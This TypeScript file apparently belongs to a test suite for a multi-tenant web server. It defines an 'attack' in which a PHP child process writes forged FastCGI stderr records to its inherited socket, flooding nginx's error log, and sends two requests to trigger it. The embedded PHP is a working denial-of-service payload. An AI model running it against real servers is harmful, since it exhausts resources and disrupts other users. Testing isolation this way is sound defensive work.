/** A child of PHP writes records of standard error on the connection that it inherited: a line of nginx's log each. */
import { writeFileSync } from 'node:fs'
import { Agent, get } from 'node:http'
import { join } from 'node:path'
import { hostOf, type Server } from '../server.ts'
import { type Attack, attacker } from './attack.ts'

/** FCGI_STDERR (7) of FastCGI 1.0 with eight bytes: nginx's buffer of 32 KB holds a whole number of them. */
const child = `<?php
$flood = str_repeat("\\x01\\x07\\0\\x01\\0\\x08\\0\\0" . 'overflow', 4096);
foreach (glob('/proc/self/fd/*') as $link) {
  if (!str_starts_with((string) @readlink($link), 'socket:')) continue;
  $connection = fopen('php://fd/' . basename($link), 'w');
  while (@fwrite($connection, $flood)) {}
}`
const script = `<?php
$child = proc_open([PHP_BINDIR . '/php', __DIR__ . '/child.php'], [], $pipes);
sleep(120);`
/** Requests at once: one for each of nginx's workers. */
const requests = 2
/** nginx adds the request's line to each message. */
const longQuery = 'q'.repeat(1500)

export const stderrFlood: Attack = {
  name: "a child of PHP writes to nginx's error log",
  mostRatio: 1.5,
  rounds: 5,
  async begin(server) {
    writeFileSync(join(server.docroot(attacker), 'child.php'), child, { mode: 0o644 })
    writeFileSync(join(server.docroot(attacker), 'stderr.php'), script, { mode: 0o644 })
    const agent = new Agent()
    for (let at = 0; at < requests; at++) ask(server, agent)
    return {
      async stop() {
        agent.destroy()
        return []
      },
    }
  },
}

function ask(server: Server, agent: Agent): void {
  const headers = { host: hostOf(attacker) }
  get({ host: '127.0.0.1', port: server.ports.http, path: `/stderr.php?${longQuery}`, headers, agent }, (answer) =>
    answer.resume(),
  ).on('error', () => {}) // it is never answered
}
